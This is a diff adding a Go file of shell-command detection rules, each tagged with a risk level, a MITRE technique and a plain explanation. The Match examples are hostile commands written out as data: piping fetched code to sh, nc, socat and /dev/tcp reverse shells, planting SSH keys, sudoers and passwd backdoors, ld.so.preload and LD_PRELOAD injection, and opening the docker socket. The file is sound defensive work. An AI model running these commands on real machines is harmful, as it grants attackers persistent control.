@@ -1,0 +1,103 @@
+package judge
+
+import "escort/explain/effect"
+
+// controlRules are about who gets control.
+var controlRules = []Rule{
+	{
+		ID: "runs-fetched-code", Text: "Runs code fetched from elsewhere, which nobody here has read.",
+		Risk: effect.High, Dimension: effect.Control, Technique: "T1105", Input: "network",
+		Match:    []string{"curl http://x.example/i | sh", "wget -qO- http://x | bash", `bash -c "$(curl -fsSL http://x)"`, "bash <(curl http://x)"},
+		NotMatch: []string{"curl http://x.example/i", "echo 'curl http://x | sh'", "curl http://x | grep sh"},
+	},
+	{
+		ID: "reverse-shell", Text: "Lets whoever is at the other end type commands on this machine.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059",
+		Words:    `(^|\s)(nc|ncat|netcat|nc\.\w+)\s(.*\s)?(-\w*[ec]\w*|--exec|--sh-exec)(\s|=)*\S*(sh|bash|zsh|dash|python|perl|cmd)`,
+		Match:    []string{"nc -l -p 4444 -e /bin/sh", "ncat 10.0.0.1 4444 -e /bin/bash", "nc -e sh 10.0.0.1 1"},
+		NotMatch: []string{"nc -zv db 5432", "echo 'nc -e /bin/sh'"},
+		Programs: "nc ncat netcat nc.traditional nc.openbsd",
+	},
+	{
+		ID: "reverse-shell", Text: "Lets whoever is at the other end type commands on this machine.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059", Programs: "socat",
+		Words:    `(?i)\b(exec|system|shell):`,
+		Match:    []string{"socat tcp:10.0.0.1:1 exec:/bin/sh", "socat TCP-LISTEN:44,fork EXEC:bash"},
+		NotMatch: []string{"socat - tcp:localhost:80"},
+	},
+	{
+		ID: "reverse-shell", Text: "Lets whoever is at the other end type commands on this machine.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059", Programs: "sh bash dash zsh ksh busybox",
+		Class: "network", Access: "read write",
+		Match:    []string{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i > /dev/tcp/10.0.0.1/1"},
+		NotMatch: []string{"cat /dev/null"},
+	},
+	{
+		ID: "network-by-shell", Text: "Talks to another machine through the shell itself, which leaves no program to be seen.",
+		Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1095", Class: "network", Access: "read write",
+		Match:    []string{"cat x > /dev/tcp/10.0.0.1/80", "exec 3<>/dev/tcp/10.0.0.1/80"},
+		NotMatch: []string{"cat x > out"},
+	},
+	{
+		ID: "login-key-planted", Text: "Changes which keys may log in. Whoever has such a key can come back at any time.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1098.004", Class: "login-list", Access: "write",
+		Match:    []string{"echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys", "cp k /root/.ssh/authorized_keys"},
+		NotMatch: []string{"cat ~/.ssh/authorized_keys", "echo ~/.ssh/authorized_keys"},
+	},
+	{
+		ID: "admin-rules-changed", Text: "Changes who may act as administrator.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1548.003", Class: "sudoers", Access: "write delete",
+		Match:    []string{"echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "cp x /etc/sudoers.d/x"},
+		NotMatch: []string{"cat /etc/sudoers.d/README"},
+	},
+	{
+		ID: "accounts-changed", Text: "Changes the accounts of this machine by hand.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1136.001", Class: "accounts password", Access: "write delete",
+		Match:    []string{"echo x::0:0::/:/bin/sh >> /etc/passwd", "mv x /etc/shadow"},
+		NotMatch: []string{"cat /etc/passwd"},
+	},
+	{
+		ID: "login-rules-changed", Text: "Changes how people are checked when they log in.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1556.003", Class: "login-rules ssh-settings", Access: "write delete",
+		Match:    []string{"cp x /etc/pam.d/sshd", "echo PermitRootLogin yes >> /etc/ssh/sshd_config"},
+		NotMatch: []string{"cat /etc/ssh/sshd_config"},
+	},
+	{
+		ID: "persistence", Text: "Makes something run again later by itself.",
+		Risk: effect.High, Dimension: effect.Control, Technique: "T1053", Class: "schedule shell-settings service-settings", Access: "write",
+		Match:    []string{"echo x >> ~/.bashrc", "cp job /etc/cron.d/job", "cp x.service /etc/systemd/system/x.service"},
+		NotMatch: []string{"cat ~/.bashrc", "ls /etc/cron.d"},
+	},
+	{
+		ID: "kernel-runs-it", Text: "Makes the kernel itself run a program, outside of everything that is watched.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1547", Class: "kernel-run preload", Access: "write",
+		Match:    []string{"echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "echo /tmp/x.so > /etc/ld.so.preload"},
+		NotMatch: []string{"cat /proc/sys/kernel/core_pattern"},
+	},
+	{
+		ID: "program-replaced", Text: "Replaces a program of the system. Everybody who uses it runs the new one.",
+		Risk: effect.High, Dimension: effect.Control, Technique: "T1554", Class: "program", Access: "write",
+		Match:    []string{"cp x /usr/bin/ls", "echo x > /bin/sh"},
+		NotMatch: []string{"ls /usr/bin", "cp x ~/ls"},
+	},
+	{
+		ID: "code-injected", Text: "Loads other code into the program, so that it may do anything.",
+		Risk: effect.High, Dimension: effect.Control, Technique: "T1574.006",
+		Env:      `^(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_INSERT_LIBRARIES|BASH_ENV|ENV|PERL5OPT|PYTHONSTARTUP|NODE_OPTIONS|GIT_SSH_COMMAND|LESSOPEN|PROMPT_COMMAND|PS4)=`,
+		Match:    []string{"LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=x bash -c true", "export LD_PRELOAD=/tmp/x.so"},
+		NotMatch: []string{"LANG=C ls", "FOO=bar ls"},
+	},
+	{
+		ID: "searches-elsewhere", Text: "Changes where programs are found. A familiar name may then start something else.",
+		Risk: effect.Caution, Dimension: effect.Control, Technique: "T1574.007",
+		Env:      `^PATH=`,
+		Match:    []string{"PATH=/tmp:$PATH ls", "export PATH=/x"},
+		NotMatch: []string{"LANG=C ls"},
+	},
+	{
+		ID: "container-switch", Text: "Uses the switch that controls all containers, which is as good as being administrator.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1611", Class: "control-socket", Access: "write",
+		Match:    []string{"chmod 666 /var/run/docker.sock"},
+		NotMatch: []string{"ls /var/run/docker.sock"},
+	},
+}
